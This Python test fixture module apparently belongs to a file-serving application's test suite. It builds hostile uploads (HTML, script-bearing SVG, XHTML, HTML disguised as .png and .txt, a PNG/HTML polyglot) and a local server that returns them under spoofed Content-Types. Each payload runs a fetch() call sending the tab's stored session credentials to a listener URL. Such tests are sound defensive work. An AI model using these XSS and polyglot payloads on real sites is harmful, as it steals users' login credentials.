"""Hostile files for the file-serving tests: each would run script if a browser rendered it as a page.

Every payload sets ``window.pwned`` and, given a listener URL, sends the tab's stored credentials there
(``sessionStorage['halyard.auth']``, where the browsable UI keeps them). ``files(listener)`` gives
``{label: (file name, bytes)}``: HTML, SVG with script, XHTML, HTML named .png and .txt, text that
only turns into HTML when sniffed, and a PNG/HTML polyglot (a valid image with a page behind it).
``api_server(listener)`` serves ``api_bodies`` on 127.0.0.1 for ``api`` data sources to fetch.
"""

import io

from PIL import Image

from tests.route_server import serve_routes

STEAL = "fetch('{listener}/?t='+encodeURIComponent(sessionStorage.getItem('halyard.auth')))"


def script(listener):
    return f"window.pwned=1;{STEAL.format(listener=listener.rstrip('/'))}"


def html(listener):
    js = script(listener)
    return (
        f"<!doctype html><html><head><title>report</title></head><body><h1>Quarterly report</h1>"
        f'<img src="x" onerror="{js}"><script>{js}</script></body></html>'
    ).encode()


def svg(listener):
    js = script(listener)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
        f'height="10" onload="{js}"><script type="text/javascript">{js}</script>'
        f'<rect width="10" height="10"/></svg>'
    ).encode()


def xhtml(listener):
    js = script(listener)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head>'
        f"<title>x</title></head><body><script>{js}</script></body></html>"
    ).encode()


def polyglot(listener):
    """A real PNG (libmagic and image viewers see an image) followed by an HTML page."""
    out = io.BytesIO()
    Image.new("RGB", (3, 3), "green").save(out, "PNG")
    return out.getvalue() + html(listener)


def files(listener):
    """{label: (file name, bytes)} of every hostile upload."""
    page = html(listener)
    return {
        "html": ("report.html", page),
        "svg": ("chart.svg", svg(listener)),
        "xhtml": ("page.xhtml", xhtml(listener)),
        "html-as-png": ("photo.png", page),
        "html-as-txt": ("notes.txt", page),
        "text-hiding-html": ("readme.txt", b"Plain words first, then a page for a sniffer:\n" + page),
        "polyglot": ("pixel.png", polyglot(listener)),
    }


# What an ``api`` source's server may claim for a body: (label, declared Content-Type, body).
def api_bodies(listener):
    page = html(listener)
    return [
        ("html", "text/html; charset=utf-8", page),
        ("svg", "image/svg+xml", svg(listener)),
        ("xhtml", "application/xhtml+xml", xhtml(listener)),
        ("html-claiming-png", "image/png", page),
        ("html-claiming-text", "text/plain; charset=utf-7", page),
        ("xml", "text/xml", xhtml(listener)),
    ]


def api_server(listener):
    """Serve ``/<label>`` → that api body with its claimed type on 127.0.0.1 (a context manager)."""
    return serve_routes({f"/{label}": (200, ctype, body) for label, ctype, body in api_bodies(listener)})
